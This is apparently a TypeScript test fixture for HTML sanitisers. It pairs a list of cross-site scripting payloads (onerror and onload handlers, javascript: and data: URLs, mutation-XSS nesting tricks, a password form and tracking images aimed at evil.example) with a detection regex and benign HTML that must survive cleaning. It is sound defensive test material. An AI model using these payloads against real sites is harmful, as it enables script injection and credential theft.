/** HTML that tries to run something, to leave its place, to fetch or to lead astray. None of it may survive either sanitiser. */
export const HTML_ATTACKS: readonly string[] = [
  '<script>globalThis.hit = 1</script>',
  '<img src=x onerror="globalThis.hit=1">',
  '<svg onload=globalThis.hit=1><animate onbegin=alert(1)></svg>',
  '<svg><style><img src=x onerror=globalThis.hit=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.hit=1&gt;">',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><object data="x"></object><embed src=x>',
  '<a href="javascript:globalThis.hit=1">a</a><a href=" java\tscript:alert(1)">b</a><a href="data:text/html,<script>1</script>">c</a>',
  '<a href="//evil.example/x">d</a><a href="vbscript:x">e</a><a href="&#106;avascript:alert(1)">f</a>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x.png);color:expression(alert(1))">over</p>',
  '<p style="color:red;background-image:url(//evil.example)" onclick="globalThis.hit=1" id="root" class="xl-toast" name="body">p</p>',
  '<img src="http://evil.example/track.gif"><img src="//evil.example/track.gif"><img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html;base64,PHN2Zz4="><img srcset="https://evil.example/a 2x" src="blob:x">',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><noscript><p title="</noscript><img src=x onerror=globalThis.hit=1>"></noscript>',
  '<template><script>globalThis.hit=1</script></template><video src=x onerror=globalThis.hit=1></video><audio autoplay src=x></audio>',
  '<details open ontoggle=globalThis.hit=1>x</details><xmp><script>1</script></xmp><plaintext><img src=x onerror=globalThis.hit=1>',
]

const HARM =
  /<\s*\/?(script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|video|audio|details)\b|<[^>]*\s(on\w+|id|class|name|srcset|srcdoc|formaction)\s*=|<[^>]*(javascript|vbscript|blob):|<[^>]*=["']?\s*data:(?!image\/(png|jpe?g|gif|webp);)|<[^>]*=["']?(https?:)?\/\/evil\.example|<[^>]*style="[^"]*(position|url|expression)/i

/** The harm that is left in cleaned HTML, or null; the words of titles harm nobody. */
export const harmIn = (html: string): string | null => HARM.exec(html.replaceAll(/\s(title|alt)="[^"]*"/g, ''))?.[0] ?? null

/** What must stay as it is, after one cleaning and after two. */
export const HTML_KEPT: readonly string[] = [
  '<h3>标题</h3><p>正文<strong>重点</strong><br />第二行</p>',
  '<ul><li>一</li><li>二</li></ul><ol start="3"><li>三</li></ol>',
  '<p style="color:#cf1322;text-align:center">红</p>',
  '<table><thead><tr><th scope="col">药品</th></tr></thead><tbody><tr><td colspan="2">阿莫西林胶囊 0.25g</td></tr></tbody></table>',
  '<a href="/hospital/orders" target="_blank" rel="noopener noreferrer">订单</a>',
  '<a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer">外部</a>',
  '<img src="/jeecg-boot/sys/common/static/a.png" alt="图" width="120" />',
  '<img src="https://example.org/a.png" alt="" /><img src="data:image/png;base64,iVBORw0KGgo=" alt="" />',
]
